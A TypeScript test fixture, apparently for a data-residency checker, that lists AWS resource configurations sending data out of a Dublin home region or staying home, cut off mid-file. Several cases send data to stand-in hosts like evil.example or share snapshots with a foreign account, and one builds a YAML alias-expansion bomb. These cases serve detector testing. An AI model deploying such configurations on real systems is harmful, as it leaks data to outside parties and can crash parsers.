/**
 * Documents of every kind, both ways: what leads abroad, to a stranger or into the unknown is said, and what only mentions other places is
 * not. Each stands in an attribute of a stack in Dublin, beside the bucket home-clinic.
 */
import { find, synth, under } from "../documents";

type Json = Readonly<Record<string, unknown>>;

/** A resource: its type and its attributes. */
interface Case {
  readonly t: string;
  readonly v: Json;
}

const sfn = (states: unknown, extra: Json = {}): Case => ({
  t: "aws_sfn_state_machine",
  v: {
    name: "m",
    role_arn: "arn:aws:iam::111122223333:role/r",
    definition: typeof states === "string" ? states : JSON.stringify({ StartAt: "A", States: states, ...extra }),
  },
});
const task = (res: string, p: Json, more: Json = {}): Case =>
  sfn({ A: { Type: "Task", Resource: "arn:aws:states:::" + res, Parameters: p, End: true, ...more } });
const jtask = (res: string, p: Json, more: Json = {}): Case =>
  sfn(
    { A: { Type: "Task", Resource: "arn:aws:states:::" + res, Arguments: p, End: true, ...more } },
    { QueryLanguage: "JSONata" },
  );
const cfn = (type: string, props: Json, beside: Json = {}, top: Json = {}): Case => ({
  t: "aws_cloudformation_stack",
  v: {
    name: "s",
    template_body: JSON.stringify({ Resources: { K: { Type: type, Properties: props }, ...beside }, ...top })
      .split("${")
      .join("$${"),
  },
});
const cfny = (y: string): Case => ({
  t: "aws_cloudformation_stack",
  v: { name: "s", template_body: y.split("${").join("$${") },
});
const ssm = (c: unknown, f = "YAML"): Case => ({
  t: "aws_ssm_document",
  v: {
    name: "d",
    document_type: "Automation",
    document_format: f,
    content: typeof c === "string" ? c : JSON.stringify(c),
  },
});
const sched = (arn: string, input: unknown): Case => ({
  t: "aws_scheduler_schedule",
  v: {
    schedule_expression: "rate(1 hour)",
    flexible_time_window: [{ mode: "OFF" }],
    target: [
      {
        arn,
        role_arn: "arn:aws:iam::111122223333:role/r",
        input: typeof input === "string" ? input : JSON.stringify(input),
      },
    ],
  },
});
const sql = (q: string): Case => ({
  t: "aws_redshiftdata_statement",
  v: { cluster_identifier: "c", database: "d", db_user: "u", sql: q },
});
const am = (y: string): Case => ({
  t: "aws_prometheus_alert_manager_definition",
  v: { workspace_id: "ws-1", definition: y },
});
const api = (b: string): Case => ({
  t: "aws_api_gateway_rest_api",
  v: { name: "a", endpoint_configuration: [{ types: ["REGIONAL"] }], body: b },
});
const glue = (p: Json): Case => ({ t: "aws_glue_connection", v: { name: "g", connection_properties: p } });
const msk = (p: Json): Case => ({ t: "aws_mskconnect_connector", v: { name: "g", connector_configuration: p } });
const osis = (y: string): Case => ({
  t: "aws_osis_pipeline",
  v: { pipeline_name: "p", min_units: 1, max_units: 1, pipeline_configuration_body: y },
});
const dash = (b: Json): Case => ({
  t: "aws_cloudwatch_dashboard",
  v: { dashboard_name: "d", dashboard_body: JSON.stringify(b) },
});
const ecs = (c: unknown): Case => ({
  t: "aws_ecs_task_definition",
  v: { family: "f", container_definitions: JSON.stringify(c) },
});
const cc = (type: string, s: Json): Case => ({
  t: "aws_cloudcontrolapi_resource",
  v: { type_name: type, desired_state: JSON.stringify(s) },
});
const dms = (settings: string): Case => ({
  t: "aws_dms_endpoint",
  v: { endpoint_id: "e", endpoint_type: "target", engine_name: "s3", extra_connection_attributes: settings },
});
/** Each sends data abroad, to a stranger, or where the document does not tell. */
const abroad: Readonly<Record<string, Case>> = {
  // calls
  s3copy: task("aws-sdk:s3:copyObject", { Bucket: "us-archive", CopySource: "home/x", Key: "x" }),
  ec2copy: task("aws-sdk:ec2:copySnapshot", {
    SourceRegion: "eu-west-1",
    DestinationRegion: "us-east-1",
    SourceSnapshotId: "snap-1",
  }),
  kms: task("aws-sdk:kms:replicateKey", { KeyId: "mrk-1", ReplicaRegion: "us-east-1" }),
  kmsmulti: task("aws-sdk:kms:createKey", { MultiRegion: true }),
  secret: task("aws-sdk:secretsmanager:replicateSecretToRegions", {
    SecretId: "s",
    AddReplicaRegions: [{ Region: "us-east-1" }],
  }),
  ddbglobal: task("aws-sdk:dynamodb:createGlobalTable", {
    GlobalTableName: "t",
    ReplicationGroup: [{ RegionName: "us-east-1" }, { RegionName: "eu-west-1" }],
  }),
  ddbexport: task("aws-sdk:dynamodb:exportTableToPointInTime", {
    TableArn: "arn:aws:dynamodb:eu-west-1:111122223333:table/t",
    S3Bucket: "us-archive",
  }),
  rdsexport: task("aws-sdk:rds:startExportTask", {
    S3BucketName: "us-archive",
    SourceArn: "arn:aws:rds:eu-west-1:111122223333:snapshot:s",
  }),
  logs: task("aws-sdk:cloudwatchlogs:createExportTask", { Destination: "us-archive", LogGroupName: "g" }),
  backup: task("aws-sdk:backup:startCopyJob", {
    DestinationBackupVaultArn: "arn:aws:backup:us-east-1:111122223333:backup-vault:v",
    RecoveryPointArn: "arn:aws:backup:eu-west-1:111122223333:recovery-point:x",
  }),
  cfn: task("aws-sdk:cloudformation:createStack", {
    StackName: "s",
    TemplateBody: JSON.stringify({
      Resources: { K: { Type: "AWS::DynamoDB::GlobalTable", Properties: { Replicas: [{ Region: "us-east-1" }] } } },
    }),
  }),
  cfnurl: task("aws-sdk:cloudformation:createStack", {
    StackName: "s",
    TemplateURL: "https://x.s3.eu-west-1.amazonaws.com/t.json",
  }),
  redshift: task("aws-sdk:redshiftdata:executeStatement", {
    Sql: "UNLOAD ('select 1') TO 's3://us-archive/x' IAM_ROLE default",
  }),
  athena: task("athena:startQueryExecution.sync", {
    QueryString: "select 1",
    ResultConfiguration: { OutputLocation: "s3://us-archive/x" },
  }),
  athenaunload: task("athena:startQueryExecution.sync", {
    QueryString: "UNLOAD (select * from t) TO 's3://us-archive/x/' WITH (format='PARQUET')",
  }),
  sharesnap: task("aws-sdk:ec2:modifySnapshotAttribute", {
    SnapshotId: "snap-1",
    CreateVolumePermission: { Add: [{ UserId: "999999999999" }] },
  }),
  shareddb: task("aws-sdk:rds:modifyDBSnapshotAttribute", { AttributeName: "restore", ValuesToAdd: ["999999999999"] }),
  lperm: task("aws-sdk:lambda:addPermission", {
    FunctionName: "f",
    Principal: "999999999999",
    Action: "lambda:InvokeFunction",
    StatementId: "x",
  }),
  qpol: task("aws-sdk:sqs:setQueueAttributes", {
    QueueUrl: "https://sqs.eu-west-1.amazonaws.com/111122223333/q",
    Attributes: {
      Policy: JSON.stringify({
        Statement: [{ Effect: "Allow", Principal: { AWS: "999999999999" }, Action: "*", Resource: "*" }],
      }),
    },
  }),
  fmt: task("sqs:sendMessage", {
    "QueueUrl.$": "States.Format('https://sqs.us-east-1.amazonaws.com/{}/q', $.account)",
    "MessageBody.$": "$",
  }),
  fmtopen: task("sqs:sendMessage", {
    "QueueUrl.$": "States.Format('https://sqs.{}.amazonaws.com/111122223333/q', $.region)",
    "MessageBody.$": "$",
  }),
  fmtarn: task("sns:publish", { "TopicArn.$": "States.Format('arn:aws:sns:us-east-1:{}:t', $.a)", Message: "x" }),
  fmtarnopen: task("sns:publish", {
    "TopicArn.$": "States.Format('arn:aws:sns:{}:111122223333:t', $.a)",
    Message: "x",
  }),
  jarn: jtask("sns:publish", { TopicArn: "{% 'arn:aws:sns:us-east-1:' & $states.input.a & ':t' %}", Message: "x" }),
  jreg: jtask("aws-sdk:dynamodb:updateTable", {
    TableName: "t",
    ReplicaUpdates: [{ Create: { RegionName: "{% $states.input.region %}" } }],
  }),
  jreg2: jtask("aws-sdk:dynamodb:updateTable", {
    TableName: "t",
    ReplicaUpdates: [{ Create: { RegionName: "{% $x ? 'us-east-1' : 'eu-west-1' %}" } }],
  }),
  map: sfn({
    A: {
      Type: "Map",
      ItemProcessor: {
        StartAt: "B",
        States: {
          B: {
            Type: "Task",
            Resource: "arn:aws:states:::sqs:sendMessage",
            Parameters: { QueueUrl: "https://sqs.us-east-1.amazonaws.com/111122223333/q" },
            End: true,
          },
        },
      },
      End: true,
    },
  }),
  par: sfn({
    A: {
      Type: "Parallel",
      Branches: [
        {
          StartAt: "B",
          States: { B: { Type: "Task", Resource: "arn:aws:lambda:us-east-1:111122223333:function:f", End: true } },
        },
      ],
      End: true,
    },
  }),
  reader: sfn({
    A: {
      Type: "Map",
      ItemReader: { Resource: "arn:aws:states:::s3:getObject", Parameters: { Bucket: "us-archive", Key: "k" } },
      ItemProcessor: { StartAt: "B", States: { B: { Type: "Pass", End: true } } },
      End: true,
    },
  }),
  writer: sfn({
    A: {
      Type: "Map",
      ResultWriter: { Resource: "arn:aws:states:::s3:putObject", Parameters: { Bucket: "us-archive", Prefix: "k" } },
      ItemProcessor: { StartAt: "B", States: { B: { Type: "Pass", End: true } } },
      End: true,
    },
  }),
  sfnyaml: sfn(
    '{StartAt: A, States: {A: {Type: Task, Resource: "arn:aws:states:::aws-sdk:kms:replicateKey", Parameters: {ReplicaRegion: us-east-1}, End: true}}}',
  ),
  http: task("http:invoke", {
    ApiEndpoint: "https://evil.example/x",
    Method: "POST",
    Authentication: { ConnectionArn: "arn:aws:events:eu-west-1:111122223333:connection/c/1" },
  }),
  nestedsched: task("aws-sdk:scheduler:createSchedule", {
    Name: "x",
    Target: {
      Arn: "arn:aws:scheduler:::aws-sdk:dynamodb:updateTable",
      RoleArn: "arn:aws:iam::111122223333:role/r",
      Input: JSON.stringify({ TableName: "t", ReplicaUpdates: [{ Create: { RegionName: "us-east-1" } }] }),
    },
  }),
  // scheduler
  sched: sched("arn:aws:scheduler:::aws-sdk:dynamodb:updateTable", {
    TableName: "t",
    ReplicaUpdates: [{ Create: { RegionName: "us-east-1" } }],
  }),
  sched2: sched("arn:aws:scheduler:::aws-sdk:s3:copyObject", { Bucket: "us-archive", CopySource: "home/x", Key: "x" }),
  sched3: sched("arn:aws:scheduler:::aws-sdk:rds:startExportTask", { S3BucketName: "us-archive" }),
  // ssm
  ssm: ssm(
    `schemaVersion: '0.3'\nassumeRole: arn:aws:iam::111122223333:role/r\nmainSteps:\n  - name: a\n    action: aws:executeAwsApi\n    inputs:\n      Service: dynamodb\n      Api: UpdateTable\n      TableName: t\n      ReplicaUpdates:\n        - Create:\n            RegionName: us-east-1\n`,
  ),
  ssm2: ssm(
    {
      schemaVersion: "0.3",
      mainSteps: [
        {
          name: "a",
          action: "aws:executeAwsApi",
          inputs: { Service: "s3", Api: "CopyObject", Bucket: "us-archive", CopySource: "home/x" },
        },
      ],
    },
    "JSON",
  ),
  ssm3: ssm(
    {
      schemaVersion: "0.3",
      mainSteps: [
        {
          name: "a",
          action: "aws:copyImage",
          inputs: { SourceImageId: "ami-1", SourceRegion: "us-east-1", ImageName: "x" },
        },
      ],
    },
    "JSON",
  ),
  ssm4: ssm(
    {
      schemaVersion: "0.3",
      mainSteps: [
        {
          name: "a",
          action: "aws:createStack",
          inputs: { StackName: "x", TemplateURL: "https://x.s3.eu-west-1.amazonaws.com/t.json" },
        },
      ],
    },
    "JSON",
  ),
  ssmbad: ssm("schemaVersion: '0.3'\nmainSteps:\n  - name: a\n   action: [x\n"),
  ssmrun: ssm(
    {
      schemaVersion: "0.3",
      mainSteps: [
        {
          name: "a",
          action: "aws:runCommand",
          inputs: { DocumentName: "AWS-RunShellScript", OutputS3BucketName: "us-archive" },
        },
      ],
    },
    "JSON",
  ),
  // cfn
  trail: cfn("AWS::CloudTrail::Trail", { S3BucketName: "us-archive", IsLogging: true }),
  lblogs: cfn("AWS::Athena::WorkGroup", {
    Name: "w",
    WorkGroupConfiguration: { ResultConfiguration: { OutputLocation: "s3://us-archive/" } },
  }),
  pipe: cfn("AWS::Pipes::Pipe", {
    Source: "arn:aws:sqs:eu-west-1:111122223333:q",
    Target: "arn:aws:sqs:us-east-1:111122223333:q",
    RoleArn: "arn:aws:iam::111122223333:role/r",
  }),
  pipekafka: cfn("AWS::Pipes::Pipe", {
    Source: "smk://kafka.evil.example:9092",
    SourceParameters: {
      SelfManagedKafkaParameters: { TopicName: "t", AdditionalBootstrapServers: ["kafka.evil.example:9092"] },
    },
    Target: "arn:aws:sqs:eu-west-1:111122223333:q",
  }),
  dms: cfn("AWS::DMS::Endpoint", { EndpointType: "target", EngineName: "mysql", ServerName: "db.evil.example" }),
  dmss3: cfn("AWS::DMS::Endpoint", {
    EndpointType: "target",
    EngineName: "s3",
    S3Settings: { BucketName: "us-archive" },
  }),
  datasync: cfn("AWS::DataSync::LocationObjectStorage", {
    ServerHostname: "storage.evil.example",
    BucketName: "x",
    AgentArns: ["arn:aws:datasync:eu-west-1:111122223333:agent/a"],
  }),
  gluejob: cfn("AWS::Glue::Job", {
    Command: { ScriptLocation: "s3://us-archive/x.py" },
    DefaultArguments: { "--TempDir": "s3://us-archive/" },
  }),
  esm: cfn("AWS::Lambda::EventSourceMapping", {
    FunctionName: "f",
    SelfManagedEventSource: { Endpoints: { KafkaBootstrapServers: ["kafka.evil.example:9092"] } },
  }),
  apidest: cfn("AWS::Events::ApiDestination", {
    InvocationEndpoint: "https://evil.example/x",
    HttpMethod: "POST",
    ConnectionArn: "arn:aws:events:eu-west-1:111122223333:connection/c/1",
  }),
  firehose: cfn("AWS::KinesisFirehose::DeliveryStream", {
    S3DestinationConfiguration: { BucketARN: "arn:aws:s3:::us-archive", RoleARN: "arn:aws:iam::111122223333:role/r" },
  }),
  appsync: cfn("AWS::AppSync::DataSource", { Type: "HTTP", HttpConfig: { Endpoint: "https://evil.example" } }),
  sfnincfn: cfn("AWS::StepFunctions::StateMachine", {
    DefinitionString: JSON.stringify({
      StartAt: "A",
      States: {
        A: {
          Type: "Task",
          Resource: "arn:aws:states:::aws-sdk:kms:replicateKey",
          Parameters: { ReplicaRegion: "us-east-1" },
          End: true,
        },
      },
    }),
    RoleArn: "arn:aws:iam::111122223333:role/r",
  }),
  sfnincfn2: cfn("AWS::StepFunctions::StateMachine", {
    Definition: {
      StartAt: "A",
      States: {
        A: {
          Type: "Task",
          Resource: "arn:aws:states:::sqs:sendMessage",
          Parameters: { QueueUrl: "https://sqs.us-east-1.amazonaws.com/1/q" },
          End: true,
        },
      },
    },
  }),
  schedcfn: cfn("AWS::Scheduler::Schedule", {
    Target: {
      Arn: "arn:aws:scheduler:::aws-sdk:dynamodb:updateTable",
      RoleArn: "arn:aws:iam::111122223333:role/r",
      Input: JSON.stringify({ ReplicaUpdates: [{ Create: { RegionName: "us-east-1" } }] }),
    },
    FlexibleTimeWindow: { Mode: "OFF" },
    ScheduleExpression: "rate(1 hour)",
  }),
  apibody: cfn("AWS::ApiGateway::RestApi", {
    EndpointConfiguration: { Types: ["REGIONAL"] },
    Body: {
      openapi: "3.0.1",
      paths: {
        "/x": { post: { "x-amazon-apigateway-integration": { type: "http_proxy", uri: "https://evil.example/x" } } },
      },
    },
  }),
  oam: cfn("AWS::Oam::Link", {
    SinkIdentifier: "arn:aws:oam:us-east-1:111122223333:sink/1",
    ResourceTypes: ["AWS::Logs::LogGroup"],
  }),
  redshiftsched: cfn("AWS::Events::Rule", {
    Targets: [
      {
        Arn: "arn:aws:redshift:eu-west-1:111122223333:cluster:c",
        Id: "x",
        RedshiftDataParameters: { Database: "d", Sql: "UNLOAD ('x') TO 's3://us-archive/'" },
      },
    ],
  }),
  nested: cfn("AWS::CloudFormation::Stack", { TemplateURL: "https://tpl.s3.eu-west-1.amazonaws.com/t.json" }),
  sar: cfn("AWS::Serverless::Application", {
    Location: {
      ApplicationId: "arn:aws:serverlessrepo:eu-west-1:111122223333:applications/x",
      SemanticVersion: "1.0.0",
    },
  }),
  import: cfn("AWS::Events::Rule", { Targets: [{ Arn: { "Fn::ImportValue": "x" }, Id: "x" }] }),
  resolve: cfn("AWS::CloudTrail::Trail", { S3BucketName: "{{resolve:ssm:/bucket}}", IsLogging: true }),
  resolvearn: cfn("AWS::Events::Rule", { Targets: [{ Arn: "{{resolve:ssm:/arn}}", Id: "x" }] }),
  yamlcfn: cfny(
    "Resources:\n  C:\n    Type: AWS::Glue::Connection\n    Properties:\n      ConnectionInput:\n        ConnectionType: JDBC\n        ConnectionProperties:\n          JDBC_CONNECTION_URL: !Sub jdbc:mysql://db.evil.example:3306/x\n",
  ),
  cc: cc("AWS::Glue::Connection", {
    ConnectionInput: {
      ConnectionType: "JDBC",
      ConnectionProperties: { JDBC_CONNECTION_URL: "jdbc:mysql://db.evil.example/x" },
    },
  }),
  cc2: cc("AWS::CloudTrail::Trail", { S3BucketName: "us-archive" }),
  // sql
  q1: sql("COPY users FROM 's3://us-archive/x' IAM_ROLE default"),
  q2: sql("create external schema s from data catalog database 'd' iam_role default region 'us-east-1'"),
  q3: sql(
    "CREATE EXTERNAL SCHEMA pg FROM POSTGRES DATABASE 'd' SCHEMA 's' URI 'db.evil.example' PORT 5432 IAM_ROLE default SECRET_ARN 'arn:aws:secretsmanager:eu-west-1:111122223333:secret:x'",
  ),
  q4: sql("CREATE EXTERNAL TABLE s.t (a int) STORED AS PARQUET LOCATION 's3://us-archive/t/'"),
  q5: sql("CALL move_everything()"),
  q6: sql("GRANT USAGE ON DATASHARE s TO NAMESPACE 'aaaaaaaa-bbbb'"),
  q7: sql("ALTER DATASHARE s SET PUBLICACCESSIBLE TRUE"),
  q8: sql("select 1; unload ('select 1') to 's3://us-archive/' iam_role default"),
  q9: sql("-- nightly\nUNLOAD ('select * from t where r=''x''')\nTO 's3://us-archive/x'\nIAM_ROLE default"),
  q10: sql("EXECUTE plan1"),
  q11: sql(
    "CREATE EXTERNAL FUNCTION f(int) RETURNS int STABLE LAMBDA 'arn:aws:lambda:us-east-1:111122223333:function:f' IAM_ROLE default",
  ),
  q12: sql("CREATE LIBRARY l LANGUAGE plpythonu FROM 'https://evil.example/lib.zip'"),
  q13: sql("GRANT USAGE ON DATASHARE users TO ACCOUNT '999999999999' VIA DATA CATALOG"),
  q14: sql("create database d from datashare s of account '999999999999' namespace 'x'"),
  // yaml
  am1: am(
    "alertmanager_config: |\n  route:\n    receiver: d\n  receivers:\n    - name: d\n      webhook_configs:\n        - url: https://hooks.evil.example/x\n",
  ),
  am2: am("alertmanager_config: |\n  route:\n   receiver: d\n  receivers: [\n"),
  am3: am(
    'template_files:\n  x: |\n    {{ define "x" }}hi{{ end }}\nalertmanager_config: |\n  receivers:\n    - name: d\n      sns_configs:\n        - topic_arn: arn:aws:sns:eu-west-1:111122223333:t\n          sigv4:\n            region: us-east-1\n',
  ),
  api1: api(
    "openapi: 3.0.1\npaths:\n  /x:\n    post:\n      x-amazon-apigateway-integration:\n        type: http_proxy\n        uri: https://evil.example/x\n",
  ),
  api2: api(
    "{openapi: 3.0.1, paths: {/x: {post: {x-amazon-apigateway-integration: {type: http_proxy, uri: 'https://evil.example",
  ),
  api3: api('{"openapi":"3.0.1",,}'),
  alias: api("a: &a {uri: x}\n" + Array.from({ length: 300 }, (_, i) => `k${i}: *a`).join("\n")),
  bomb: api(
    "a: &a [x,x,x,x,x,x,x,x,x]\n" +
      Array.from(
        { length: 9 },
        (_, i) =>
          `${"bcdefghij"[i]}: &${"bcdefghij"[i]} [${Array(9)
            .fill("*" + "abcdefghi"[i])
            .join(",")}]`,
      ).join("\n"),
  ),
  glue1: glue({ JDBC_CONNECTION_URL: "jdbc:postgresql://db.evil.example:5432/x" }),
  msk1: msk({
    "connector.class": "io.debezium.connector.postgresql.PostgresConnector",
    "database.hostname": "db.evil.example",
  }),
  osis1: osis(
    "version: '2'\nx:\n  source:\n    http:\n      path: /x\n  sink:\n    - opensearch:\n        hosts: ['https://search.evil.example']\n        aws:\n          region: eu-west-1\n",
  ),
  osis2: osis(
    "version: '2'\nx:\n  source:\n    http:\n      path: /x\n  sink:\n    - s3:\n        bucket: us-archive\n        aws:\n          region: us-east-1\n",
  ),
  ecs1: ecs([
    {
      name: "x",
      image: "x",
      logConfiguration: { logDriver: "awslogs", options: { "awslogs-region": "us-east-1", "awslogs-group": "g" } },
    },
  ]),
  // who does it, and where it is answered
  role: task("lambda:invoke", { FunctionName: "f" }, { Credentials: { RoleArn: "arn:aws:iam::999999999999:role/r" } }),
  assume: task("aws-sdk:sts:assumeRole", { RoleArn: "arn:aws:iam::999999999999:role/r", RoleSessionName: "s" }),
  lpermarn: task("aws-sdk:lambda:addPermission", {
    FunctionName: "f",
    Principal: "arn:aws:iam::999999999999:root",
    Action: "lambda:InvokeFunction",
    StatementId: "x",
  }),
  mail: task("aws-sdk:sesv2:sendEmail", { Destination: { ToAddresses: ["someone@example.com"] }, Content: {} }),
  model: task("bedrock:invokeModel", { ModelId: "us.anthropic.claude-3-sonnet-20240229-v1:0", Body: {} }),
  edge: task("aws-sdk:cloudfront:createDistribution", { DistributionConfig: {} }),
  accelerator: task("aws-sdk:globalaccelerator:createAccelerator", { Name: "a" }),
  // types that are everywhere
  amplify: cfn("AWS::Amplify::App", { Name: "a" }),
  ivs: cfn("AWS::IVS::Channel", { Name: "a" }),
  appsyncdomain: cfn("AWS::AppSync::DomainName", { DomainName: "api.example.ie", CertificateArn: "c" }),
  edgedomain: cfn("AWS::ApiGateway::DomainName", { DomainName: "api.example.ie", CertificateArn: "c" }),
  // authorizers
  authorizer: api(
    JSON.stringify({
      openapi: "3.0.1",
      paths: {},
      components: {
        securitySchemes: {
          own: {
            type: "apiKey",
            "x-amazon-apigateway-authorizer": {
              type: "request",
              authorizerUri:
                "arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/arn:aws:lambda:us-east-1:111122223333:function:f/invocations",
            },
          },
        },
      },
    }),
  ),
  jwt: api(
    JSON.stringify({
      openapi: "3.0.1",
      paths: {},
      components: {
        securitySchemes: {
          own: {
            type: "oauth2",
            "x-amazon-apigateway-authorizer": { jwtConfiguration: { issuer: "https://id.example.com" } },
          },
        },
      },
    }),
  ),
  settings: dms("bucketName=us-archive;compressionType=GZIP"),
  settinghost: dms("broker=kafka.example.com:9092;topic=t;"),
};
/** Each stays at home; what it says of other places is a mention. */
const home: Readonly<Record<string, Case>> = {
  pass: sfn({
    A: {
      Type: "Pass",
      Result: { deniedRegion: "us-east-1", region: "us-east-1", url: "https://evil.example" },
      Next: "B",
    },
    B: { Type: "Choice", Choices: [{ Variable: "$.region", StringEquals: "us-east-1", Next: "C" }], Default: "C" },
    C: { Type: "Fail", Error: "region us-east-1", Cause: "arn:aws:sqs:us-east-1:1:q" },
  }),
  passj: sfn(
    {
      A: {
        Type: "Pass",
        Output: { region: "us-east-1", q: '{% $states.input.region = "us-east-1" %}' },
        Assign: { homeRegion: "us-east-1" },
        End: true,
      },
    },
    { QueryLanguage: "JSONata" },
  ),
  passparams: sfn({ A: { Type: "Pass", Parameters: { region: "us-west-2", "x.$": "$.x" }, End: true } }),
  tasksel: task("lambda:invoke", { FunctionName: "f", "Payload.$": "$" }, { ResultSelector: { region: "us-east-1" } }),
  payload: task("lambda:invoke", {
    FunctionName: "arn:aws:lambda:eu-west-1:111122223333:function:f",
    Payload: { deniedRegions: ["us-east-1"], region: "us-east-1", homepage: "https://example.com" },
  }),
  msg: task("sqs:sendMessage", {
    QueueUrl: "https://sqs.eu-west-1.amazonaws.com/111122223333/q",
    MessageBody: { region: "us-east-1" },
  }),
  fmt: task("sqs:sendMessage", {
    "QueueUrl.$": "States.Format('https://sqs.eu-west-1.amazonaws.com/111122223333/{}', $.q)",
    "MessageBody.$": "$",
  }),
  fmtarn: task("sns:publish", {
    "TopicArn.$": "States.Format('arn:aws:sns:eu-west-1:111122223333:{}', $.t)",
    "Message.$": "States.Format('bad {}', $.x)",
  }),
  jarn: jtask("sns:publish", {
    TopicArn: "{% 'arn:aws:sns:eu-west-1:111122223333:' & $states.input.t %}",
    Message: "{% 'us-east-1 ' & $x %}",
  }),
  ddb: task("aws-sdk:dynamodb:updateTable", {
    TableName: "t",
    ReplicaUpdates: [{ Create: { RegionName: "eu-west-1" } }],
  }),
  ddbput: task("dynamodb:putItem", {
    TableName: "t",
    Item: { region: { S: "us-east-1" }, url: { S: "https://example.com" }, bucket: { S: "us-archive" } },
  }),
  ddbput2: task("dynamodb:updateItem", {
    TableName: "t",
    Key: { id: { "S.$": "$.id" } },
    UpdateExpression: "SET #r = :r",
    ExpressionAttributeNames: { "#r": "region" },
    ExpressionAttributeValues: { ":r": { S: "us-east-1" } },
  }),
  s3own: task("aws-sdk:s3:copyObject", { Bucket: "home-clinic", CopySource: "home-clinic/x", Key: "x" }),
  glue: task("glue:startJobRun.sync", { JobName: "j", Arguments: { "--env": "prod", "--region": "eu-west-1" } }),
  ecs: task("ecs:runTask.sync", {
    LaunchType: "FARGATE",
    Cluster: "arn:aws:ecs:eu-west-1:111122223333:cluster/c",
    TaskDefinition: "t:1",
    Overrides: { ContainerOverrides: [{ Name: "x", Environment: [{ Name: "REGION", "Value.$": "$.r" }] }] },
  }),
  emr: task("elasticmapreduce:addStep.sync", {
    "ClusterId.$": "$.id",
    Step: {
      Name: "x",
      ActionOnFailure: "CONTINUE",
      HadoopJarStep: { Jar: "command-runner.jar", Args: ["spark-submit", "s3://home-clinic/x.py"] },
    },
  }),
  batch: task("batch:submitJob.sync", { JobName: "x", JobQueue: "q", JobDefinition: "d" }),
  events: task("events:putEvents", {
    Entries: [{ EventBusName: "b", DetailType: "x", Source: "s", Detail: { region: "us-east-1" } }],
  }),
  sfnstart: task("states:startExecution.sync:2", {
    StateMachineArn: "arn:aws:states:eu-west-1:111122223333:stateMachine:m",
    Input: { region: "us-east-1", "x.$": "$" },
  }),
  wait: task("lambda:invoke.waitForTaskToken", { FunctionName: "f", Payload: { "token.$": "$$.Task.Token" } }),
  athena: task("athena:startQueryExecution.sync", {
    QueryString: "select * from t where region = 'us-east-1'",
    WorkGroup: "w",
    ResultConfiguration: { OutputLocation: "s3://home-clinic/x" },
  }),
  athenafmt: task("athena:startQueryExecution.sync", {
    "QueryString.$": "States.Format('select * from t where d={}', $.d)",
    WorkGroup: "w",
  }),
  map: sfn({
    A: {
      Type: "Map",
      ItemsPath: "$.x",
      ItemSelector: { region: "us-east-1" },
      ItemProcessor: {
        ProcessorConfig: { Mode: "INLINE" },
        StartAt: "B",
        States: { B: { Type: "Pass", Result: { r: "us-east-1" }, End: true } },
      },
      End: true,
    },
  }),
  sched: sched("arn:aws:scheduler:::aws-sdk:rds:stopDBInstance", { DbInstanceIdentifier: "x" }),
  sched2: sched("arn:aws:lambda:eu-west-1:111122223333:function:f", { job: "x" }),
  sched3: sched("arn:aws:scheduler:::aws-sdk:sqs:sendMessage", {
    QueueUrl: "https://sqs.eu-west-1.amazonaws.com/111122223333/q",
    MessageBody: "region us-east-1",
  }),
  ssm: ssm(
    `description: |\n  Stops instances; see https://docs.example.com (not in us-east-1)\nschemaVersion: '0.3'\nassumeRole: '{{ AutomationAssumeRole }}'\nparameters:\n  InstanceId:\n    type: StringList\n    description: ids in us-east-1\n  AutomationAssumeRole:\n    type: String\n    default: ''\nmainSteps:\n  - name: stop\n    action: aws:changeInstanceState\n    inputs:\n      InstanceIds: '{{ InstanceId }}'\n      DesiredState: stopped\n  - name: q\n    action: aws:executeAwsApi\n    inputs:\n      Service: ec2\n      Api: DescribeInstances\n      Filters:\n        - Name: tag:region\n          Values: [us-east-1]\n    outputs:\n      - Name: x\n        Selector: $.Reservations[0]\n        Type: String\n  - name: s\n    action: aws:executeScript\n    inputs:\n      Runtime: python3.11\n      Handler: h\n      Script: |\n        def h(e, c):\n          return {"a": 1}\n`,
  ),
  ssmcmd: ssm(
    {
      schemaVersion: "2.2",
      description: "x",
      mainSteps: [
        {
          action: "aws:runShellScript",
          name: "x",
          inputs: { runCommand: ["#!/bin/bash", "set -e", "[ -f /x ] && echo {", "yum -y update"] },
        },
      ],
    },
    "JSON",
  ),
  trail: cfn(
    "AWS::CloudTrail::Trail",
    { S3BucketName: { Ref: "B" }, IsLogging: true },
    { B: { Type: "AWS::S3::Bucket" } },
  ),
  traillit: cfn(
    "AWS::CloudTrail::Trail",
    { S3BucketName: "logs-of-ours", IsLogging: true },
    { B: { Type: "AWS::S3::Bucket", Properties: { BucketName: "logs-of-ours" } } },
  ),
  trailown: cfn("AWS::CloudTrail::Trail", { S3BucketName: "home-clinic", IsLogging: true }),
  bucket: cfn("AWS::S3::Bucket", {
    BucketName: "something-new",
    VersioningConfiguration: { Status: "Enabled" },
    LifecycleConfiguration: { Rules: [{ Status: "Enabled", ExpirationInDays: 3 }] },
  }),
  lambda: cfn(
    "AWS::Lambda::Function",
    {
      FunctionName: "f",
      Handler: "x.y",
      Runtime: "python3.12",
      Role: { "Fn::GetAtt": ["R", "Arn"] },
      Code: { ZipFile: 'def handler(e, c):\n  url = "https://example.com"\n  return {"region": "us-east-1"}\n' },
      Environment: { Variables: { REGION: "us-east-1" } },
    },
    {
      R: {
        Type: "AWS::IAM::Role",
        Properties: {
          AssumeRolePolicyDocument: {
            Statement: [{ Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" }],
          },
        },
      },
    },
  ),
  vpc: cfn(
    "AWS::EC2::VPC",
    { CidrBlock: "10.0.0.0/16", EnableDnsSupport: true },
    {
      S: {
        Type: "AWS::EC2::Subnet",
        Properties: {
          VpcId: { Ref: "K" },
          CidrBlock: "10.0.0.0/24",
          AvailabilityZone: { "Fn::Select": [0, { "Fn::GetAZs": "" }] },
        },
      },
      R: {
        Type: "AWS::EC2::Route",
        Properties: { RouteTableId: { Ref: "T" }, DestinationCidrBlock: "0.0.0.0/0", GatewayId: { Ref: "G" } },
      },
      T: { Type: "AWS::EC2::RouteTable", Properties: { VpcId: { Ref: "K" } } },
      G: { Type: "AWS::EC2::InternetGateway" },
    },
  ),
  ec2: cfn("AWS::EC2::Instance", {
    ImageId: "ami-123",
    InstanceType: "t3.micro",
    SubnetId: "subnet-1",
    SecurityGroupIds: ["sg-1"],
    UserData: { "Fn::Base64": "#!/bin/bash\necho us-east-1\n" },
  }),
  ec2ssm: cfn(
    "AWS::EC2::Instance",
    { ImageId: { Ref: "Ami" }, InstanceType: "t3.micro" },
    {},
    {
      Parameters: {
        Ami: {
